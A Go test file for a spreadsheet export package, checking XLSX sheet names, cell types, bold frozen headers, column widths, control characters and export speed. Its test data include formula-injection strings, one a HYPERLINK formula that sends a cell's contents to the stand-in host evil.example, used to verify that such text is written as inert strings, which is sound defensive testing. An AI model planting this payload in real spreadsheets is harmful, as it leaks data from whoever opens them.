package transfer

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"math"
	"reflect"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

func writeXLSX(t testing.TB, tab Table) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, tab); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func openXLSX(t testing.TB, b []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("excelize cannot open the export: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestWriteXLSX(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("pitkä muistiinpano ", 20)
	tab := Table{
		Sheet:  "Kaupat 2026/05",
		Header: []string{"Nimi", "Puhelin", "Kaava", "Summa", "Muistiinpano"},
		Rows: [][]Cell{
			{TextCell("Äijälä Oy"), TextCell("+358 40 123 4567"), TextCell("=1+1"), NumberCell(1234.5, "1 234,50 €"), TextCell(long)},
			{TextCell("Öljynen"), TextCell("+46 8 123 456 78"), TextCell(`=HYPERLINK("http://evil.example/?d="&A1,"Click")`), NumberCell(-7, "-7,00 €"), TextCell("rivi 1\nrivi 2")},
			{TextCell("Åström"), TextCell(""), TextCell("@SUM(1)"), NumberCell(math.NaN(), "ei tiedossa"), TextCell(" -2+3 ")},
		},
	}
	b := writeXLSX(t, tab)
	f := openXLSX(t, b)

	if got, want := f.GetSheetList(), []string{"Kaupat 2026-05"}; !reflect.DeepEqual(got, want) {
		t.Fatalf("sheets = %q, want %q", got, want)
	}
	const sheet = "Kaupat 2026-05"
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		tab.Header,
		{"Äijälä Oy", "+358 40 123 4567", "=1+1", "1234.5", long},
		{"Öljynen", "+46 8 123 456 78", `=HYPERLINK("http://evil.example/?d="&A1,"Click")`, "-7", "rivi 1\nrivi 2"},
		{"Åström", "", "@SUM(1)", "ei tiedossa", " -2+3 "},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("rows:\n got %q\nwant %q", rows, want)
	}

	// Text that looks like a formula is a string cell, exactly as written, with no formula behind it.
	for _, ref := range []string{"C2", "C3", "C4", "B2", "E4"} {
		typ, err := f.GetCellType(sheet, ref)
		if err != nil {
			t.Fatal(err)
		}
		if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s has cell type %v, want a string", ref, typ)
		}
		if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
			t.Errorf("%s has formula %q (%v), want none", ref, formula, err)
		}
	}
	// And nowhere in the sheet is there a formula element at all.
	if xml := sheetXML(t, b); strings.Contains(xml, "<f>") || strings.Contains(xml, "<f ") {
		t.Errorf("sheet XML contains a formula element")
	}

	// Number cells are numbers; a NaN, which XLSX cannot hold, is its text.
	for ref, wantType := range map[string]excelize.CellType{"D2": excelize.CellTypeNumber, "D3": excelize.CellTypeNumber, "D4": excelize.CellTypeInlineString} {
		typ, err := f.GetCellType(sheet, ref)
		if err != nil {
			t.Fatal(err)
		}
		if typ == excelize.CellTypeUnset { // no t attribute means a number
			typ = excelize.CellTypeNumber
		}
		if typ != wantType {
			t.Errorf("%s has cell type %v, want %v", ref, typ, wantType)
		}
	}

	// The header is bold and frozen.
	for col := range tab.Header {
		ref, _ := excelize.CoordinatesToCellName(col+1, 1)
		styleID, err := f.GetCellStyle(sheet, ref)
		if err != nil {
			t.Fatal(err)
		}
		style, err := f.GetStyle(styleID)
		if err != nil {
			t.Fatal(err)
		}
		if style.Font == nil || !style.Font.Bold {
			t.Errorf("header cell %s is not bold", ref)
		}
	}
	if style, _ := f.GetCellStyle(sheet, "A2"); style != 0 {
		if s, _ := f.GetStyle(style); s != nil && s.Font != nil && s.Font.Bold {
			t.Errorf("data cell A2 is bold")
		}
	}
	panes, err := f.GetPanes(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
		t.Errorf("panes = %+v, want the first row frozen", panes)
	}

	// Columns fit their content, and a long note stops at 60.
	widths := map[string]float64{}
	for _, col := range []string{"A", "B", "E"} {
		if widths[col], err = f.GetColWidth(sheet, col); err != nil {
			t.Fatal(err)
		}
	}
	if widths["E"] != 60 {
		t.Errorf("column E (380 characters) is %v wide, want the cap 60", widths["E"])
	}
	if widths["B"] < 16 || widths["B"] > 20 {
		t.Errorf("column B (phone numbers, 16 characters) is %v wide, want 16–20", widths["B"])
	}
	if widths["A"] >= widths["B"] {
		t.Errorf("column A (names) is %v wide, not narrower than column B (%v)", widths["A"], widths["B"])
	}
}

func sheetXML(t testing.TB, b []byte) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var sheets []string
	for _, zf := range zr.File {
		if strings.HasPrefix(zf.Name, "xl/worksheets/") && strings.HasSuffix(zf.Name, ".xml") {
			rc, err := zf.Open()
			if err != nil {
				t.Fatal(err)
			}
			data, err := io.ReadAll(rc)
			rc.Close()
			if err != nil {
				t.Fatal(err)
			}
			sheets = append(sheets, string(data))
		}
	}
	if len(sheets) != 1 {
		t.Fatalf("workbook has %d worksheets, want 1", len(sheets))
	}
	return sheets[0]
}

func TestWriteXLSXAwkwardText(t *testing.T) {
	t.Parallel()
	// Control characters (dropped), an OOXML escape look-alike and invalid UTF-8 must not break the file.
	values := []string{"a\x01b\x0bc", "_x0041_", "tab\there", "\uFFFF", "invalid \xff utf-8"}
	tab := Table{Header: []string{"v"}}
	for _, v := range values {
		tab.Rows = append(tab.Rows, []Cell{TextCell(v)})
	}
	f := openXLSX(t, writeXLSX(t, tab))
	rows, err := f.GetRows("Sheet1")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(values)+1 {
		t.Fatalf("got %d rows, want %d", len(rows), len(values)+1)
	}
	for i, want := range []string{"abc", "_x0041_", "tab\there"} {
		if rows[i+1][0] != want {
			t.Errorf("%q came back as %q, want %q", values[i], rows[i+1][0], want)
		}
	}
}

func TestWriteXLSXErrors(t *testing.T) {
	t.Parallel()
	err := WriteXLSX(io.Discard, Table{Header: []string{"a"}, Rows: [][]Cell{{TextCell("1")}, {TextCell("1"), TextCell("2")}}})
	if err == nil || !strings.Contains(err.Error(), "row 2") {
		t.Errorf("a row wider than the header: err = %v, want an error naming row 2", err)
	}
}

func TestSheetName(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"Contacts":                          "Contacts",
		"":                                  "Sheet1",
		"   ":                               "Sheet1",
		"Deals [won]: 2026/05 * ? \\":       "Deals -won-- 2026-05 - - -",
		"'quoted'":                          "quoted",
		"history":                           "history 1",
		"tab\there":                         "tabhere",
		"Yhteyshenkilöt ja asiakkaat 2026–": "Yhteyshenkilöt ja asiakkaat 202",
		strings.Repeat("🙂", 20):             strings.Repeat("🙂", 15), // two UTF-16 units each
	} {
		if got := sheetName(in); got != want {
			t.Errorf("sheetName(%q) = %q, want %q", in, got, want)
		}
		var buf bytes.Buffer
		if err := WriteXLSX(&buf, Table{Sheet: in, Header: []string{"x"}}); err != nil {
			t.Errorf("WriteXLSX with sheet %q: %v", in, err)
		}
	}
}

// benchTable is a realistic contact export: eight columns of names, addresses, phones, dates, money.
func benchTable(rows int) Table {
	tab := Table{
		Sheet:  "Contacts",
		Header: []string{"Name", "Company", "Email", "Phone", "City", "Owner", "Last contact", "Pipeline"},
		Rows:   make([][]Cell, rows),
	}
	cities := []string{"Helsinki", "Tampere", "Åbo", "Jyväskylä", "Oulu", "Stockholm"}
	for i := range tab.Rows {
		amount := float64(i%100000) * 12.5
		tab.Rows[i] = []Cell{
			TextCell(fmt.Sprintf("Pekka Äijälä %d", i)),
			TextCell(fmt.Sprintf("Öljy & Söderström %d Oy", i%5000)),
			TextCell(fmt.Sprintf("pekka.aijala%d@example.fi", i)),
			TextCell(fmt.Sprintf("+358 40 %03d %04d", i%1000, i%10000)),
			TextCell(cities[i%len(cities)]),
			TextCell("Maija Meikäläinen"),
			TextCell(fmt.Sprintf("%d.%d.2026", i%28+1, i%12+1)),
			NumberCell(amount, fmt.Sprintf("%.2f €", amount)),
		}
	}
	return tab
}

const benchRows = 100_000

func BenchmarkWriteXLSX(b *testing.B) {
	tab := benchTable(benchRows)
	var buf bytes.Buffer
	b.ReportAllocs()
	for b.Loop() {
		buf.Reset()
		if err := WriteXLSX(&buf, tab); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N*benchRows)/b.Elapsed().Seconds(), "rows/s")
	b.ReportMetric(float64(buf.Len())/(1<<20), "MiB/file")

	f := openXLSX(b, buf.Bytes())
	rows, err := f.Rows("Contacts")
	if err != nil {
		b.Fatal(err)
	}
	n := 0
	var last []string
	for rows.Next() {
		n++
		if last, err = rows.Columns(); err != nil {
			b.Fatal(err)
		}
	}
	if n != benchRows+1 || last[0] != fmt.Sprintf("Pekka Äijälä %d", benchRows-1) {
		b.Fatalf("read back %d rows ending in %q, want %d ending in row %d", n, last, benchRows+1, benchRows-1)
	}
}

func BenchmarkWriteCSV(b *testing.B) {
	tab := benchTable(benchRows)
	var buf bytes.Buffer
	b.ReportAllocs()
	for b.Loop() {
		buf.Reset()
		if err := WriteCSV(&buf, tab); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N*benchRows)/b.Elapsed().Seconds(), "rows/s")
	b.ReportMetric(float64(buf.Len())/(1<<20), "MiB/file")
	if got := len(readCSV(b, buf.Bytes())); got != benchRows+1 {
		b.Fatalf("read back %d records, want %d", got, benchRows+1)
	}
}
